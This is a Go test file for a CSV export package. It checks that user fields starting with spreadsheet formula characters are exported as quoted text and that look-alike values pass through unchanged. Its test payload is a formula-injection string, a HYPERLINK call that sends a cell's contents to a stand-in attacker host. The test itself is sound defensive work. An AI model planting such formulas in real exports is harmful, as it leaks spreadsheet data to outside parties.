package csvio_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/reconi/reconi/internal/csvio"
	"github.com/reconi/reconi/internal/reconi"
)

// TestExportNeutralisesFormulas: every start a spreadsheet may evaluate
// (OWASP: =, +, -, @, tab, CR), in every column, is exported as text with
// a leading quote; a cell that only looks close (a formula after a space,
// a full-width equals sign) is left as it is. FuzzWriter checks the same
// for any input.
func TestExportNeutralisesFormulas(t *testing.T) {
	for _, start := range []string{"=", "+", "-", "@", "\t", "\r"} {
		payload := start + `HYPERLINK("http://evil.example/?"&A1,"x")`
		for col := range 5 {
			cells := []string{"Jan", "Jansen", "jan@example.nl", "+31612345678", "1985-04-12"}
			cells[col] = payload
			var buf bytes.Buffer
			w := csvio.NewWriter(&buf)
			if err := w.Write(reconi.User{FirstName: cells[0], LastName: cells[1], Email: cells[2], Phone: cells[3], DateOfBirth: reconi.Date(cells[4])}); err != nil {
				t.Fatal(err)
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&buf).ReadAll()
			if err != nil || len(recs) != 2 {
				t.Fatalf("%q: %v %q", payload, err, recs)
			}
			if got := recs[1][col]; got != "'"+payload {
				t.Errorf("column %d, %q: exported as %q", col, payload, got)
			}
			for i, cell := range recs[1] {
				if unsafeCell(cell) {
					t.Errorf("column %d, %q: cell %d %q starts like a formula", col, payload, i, cell)
				}
			}
		}
	}
	for _, s := range []string{" =1+1", "\uff1d1+1", "Jan", "'quoted", ""} {
		var buf bytes.Buffer
		w := csvio.NewWriter(&buf)
		w.Write(reconi.User{FirstName: s})
		w.Flush()
		recs, _ := csv.NewReader(&buf).ReadAll()
		if got := recs[1][0]; got != s {
			t.Errorf("%q exported as %q", s, got)
		}
	}
}
